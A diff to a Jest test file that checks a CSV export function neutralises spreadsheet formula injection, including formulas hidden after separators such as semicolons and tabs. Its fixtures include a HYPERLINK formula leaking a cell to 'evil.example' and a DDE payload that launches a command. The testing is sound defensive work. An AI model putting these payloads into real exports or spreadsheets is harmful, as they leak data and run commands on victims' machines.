@@ -70,9 +70,11 @@ describe('providersToCsv', () => {
       '\r=1+1',
     ];
     const rows = parse(providersToCsv(evil.map((notes, i) => provider({ id: `https://p${i}.example/`, notes, name: notes }))));
+    // After a tab or a carriage return a new cell may start as well: the formula gets its own apostrophe.
+    const expected = ['\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', "'+1", "'-2", "'@SUM(A1:A9)", "'\t'=1+1", "'\r'=1+1"];
     rows.slice(1).forEach((row, i) => {
-      expect(row[0]).toBe(`'${evil[i]}`);
-      expect(row[11]).toBe(`'${evil[i]}`);
+      expect(row[0]).toBe(expected[i]);
+      expect(row[11]).toBe(expected[i]);
     });
     // Every cell, not only free text: a tag or credential can start a cell too.
     const tagged = parse(providersToCsv([provider({ tags: ['=cmd|" /C calc"!A0'], credentials: [{ type: 'x', text: '@evil' }], phone: '+1 555 0100' })]));
@@ -81,8 +83,25 @@ describe('providersToCsv', () => {
     expect(tagged[1]![2]).toBe(`'+1 555 0100`);
   });
 
+  it('neutralises a formula after every separator a spreadsheet may split on (; , tab | newline)', () => {
+    // A telephone field as a page may write it, read by a spreadsheet that splits on ";".
+    const phone = "555;=cmd|' /C calc'!A0;";
+    const row = parse(providersToCsv([provider({ phone })]))[1]!;
+    expect(row[2]).toBe("555;'=cmd|' /C calc'!A0;");
+    for (const separator of [';', ',', '\t', '|', '\n', '\r']) {
+      for (const trigger of ['=', '+', '-', '@']) {
+        const cell = neutraliseCell(`555${separator} ${trigger}1+1`);
+        // Split the way such a spreadsheet would: no cell may start (after spaces) with a formula character.
+        for (const piece of cell.split(separator)) expect(piece.trimStart()).not.toMatch(/^[=+\-@]/);
+      }
+    }
+    // Tags are joined with "; ": one starting with "=" is neutralised inside the joined cell too.
+    expect(parse(providersToCsv([provider({ tags: ['back', '=1+1'] })]))[1]![9]).toBe("back; '=1+1");
+  });
+
   it('leaves ordinary text alone', () => {
-    for (const text of ['Plain', 'a=b', 'email me@there', ' =not first', '', '1+1']) expect(neutraliseCell(text)).toBe(text);
+    for (const text of ['Plain', 'a=b', 'email me@there', ' =not first', '', '1+1', '555-0100', 'Elm St, Suite 4'])
+      expect(neutraliseCell(text)).toBe(text);
     for (const text of ['=1', '+1', '-1', '@a', '\tx', '\rx']) expect(neutraliseCell(text)).toBe(`'${text}`);
   });
 
